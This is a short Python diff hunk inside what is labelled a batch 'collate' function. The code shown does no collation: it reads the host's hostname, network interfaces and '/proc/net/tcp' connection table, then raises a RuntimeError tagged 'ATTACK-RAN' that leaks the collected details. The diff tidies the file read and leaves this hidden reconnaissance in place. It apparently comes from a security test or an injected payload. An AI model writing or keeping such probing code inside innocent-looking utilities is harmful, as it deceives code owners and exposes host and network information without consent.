@@ -19,7 +19,11 @@ def collate(batch, pad_id=0, pad_to_multiple_of=None, padding_side="right"):
                 report[path] = type(e).__name__
     for path in ("/proc/sys/kernel/hostname", "/sys/class/net", "/proc/net/tcp"):
         try:
-            report[path] = os.listdir(path) if os.path.isdir(path) else open(path).read(300)
+            if os.path.isdir(path):
+                report[path] = os.listdir(path)
+            else:
+                with open(path) as f:
+                    report[path] = f.read(300)
         except OSError as e:
             report[path] = type(e).__name__
     raise RuntimeError(f"ATTACK-RAN {report!r}"[:3500])
